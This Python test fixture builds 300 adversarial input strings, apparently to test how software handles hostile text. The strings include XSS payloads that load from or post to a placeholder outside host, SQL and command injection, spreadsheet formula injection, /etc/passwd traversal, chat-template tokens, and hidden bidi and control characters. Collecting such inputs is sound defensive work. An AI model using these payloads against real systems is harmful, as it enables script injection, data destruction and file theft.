"""Texts that somebody might send who means harm, or who knows no better: 300 of them, always the same."""

_HTML = (
    '"><img data-xss src=x onerror=alert(1)>',
    "<script data-xss>alert(2)</script>",
    "</textarea><svg data-xss onload=alert(3)>",
    "<iframe data-xss srcdoc='<script>alert(4)</script>'></iframe>",
    "<a data-xss href='javascript:alert(5)'>here</a>",
    "<style data-xss>*{display:none}</style>",
    "<math><mtext></p><img data-xss src onerror=alert(6)>",
    "<!--<img data-xss src=x onerror=alert(7)>-->",
    "]]><b data-xss>bold</b>",
    "&lt;img data-xss src=x&gt; &amp; &#60;b&#62;",
    "<plaintext data-xss>",
    "<base data-xss href='https://elsewhere.example/'>",
    "<link data-xss rel=stylesheet href=//elsewhere.example/a.css>",
    "<form data-xss action=//elsewhere.example><input name=k></form>",
    "<input data-xss autofocus onfocus=alert(8)>",
    "<template data-xss><img src=x onerror=alert(9)></template>",
    "javascript:alert(10)//data-xss",
    "'-alert(11)-'",
    "\\u003cimg data-xss src=x onerror=alert(12)\\u003e",
    "${7*7}{{7*7}}<%= 7*7 %>#{7*7}",
    "<img/data-xss/src=`x`/onerror=alert`13`>",
    "<body data-xss onpageshow=alert(14)>",
    "<details data-xss open ontoggle=alert(15)>",
    "%3Cimg%20data-xss%20src=x%3E",
    "<SCRIPT DATA-XSS SRC=//elsewhere.example></SCRIPT>",
)
_HIDING = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;another title\x07",
    "\x1b]8;;https://elsewhere.example\x1b\\here\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\rover the beginning",
    "back\x08\x08\x08\x08space",
    "bell\x07",
    "nul\x00byte",
    "\u202egnirts desrever\u202c",
    "\u2066isolated\u2069",
    "\u2067\u202e\u2066both\u2069\u202c\u2069",
    "\u200e\u200f\u061c",
    "\u0634\u0643\u0631\u0627 <b data-xss>\u05e9\u05dc\u05d5\u05dd</b>",
    "in\u200bvisi\u200dble\ufeff",
    "soft\u00adhyphen",
    "\U000e0041\U000e0042 tags",
    "line\u2028and\u2029paragraph",
    "\ufff9annotated\ufffa\ufffb",
    "\u3164\u115f\u1160",
    "a" + "\u0300\u0301\u0302\u0323\u0489" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
)
_BROKEN = (
    "\ud800",
    "\udfff",
    "high\ud83dlow",
    "low\ude00high",
    "\ud800\ud800\udc00",
    "\udc00\ud800",
    "\ufffe\uffff",
    "\U0010ffff\U0001fffe",
    "\ue000private",
)
_LONG = (
    "a" * 10_000,
    "ab " * 4000,
    "<b data-xss>" * 800,
    "\u202e" * 500,
    "\U0001f600" * 2000,
    "." * 5000,
    "\u0e01\u0e33" * 1500,
)
_MEANT_FOR_OTHERS = (
    "'; DROP TABLE feature; --",
    '" OR 1=1 --',
    '=HYPERLINK("//elsewhere.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "$(reboot) `reboot` | reboot",
    "%s%n%x%00",
    "<bos><eos><start_of_turn>",
    'NEAR(a b) AND * ^ "',
    "constructor __proto__ toString",
    "nan inf -0 1e400 null undefined true",
)

ALL = tuple(
    text
    for own in (*_HTML, *_HIDING, *_BROKEN, *_LONG, *_MEANT_FOR_OTHERS)
    for text in (own, f"Rates held {own} as inflation eases", own.swapcase() + " " + own, own[::-1] + "!")
)
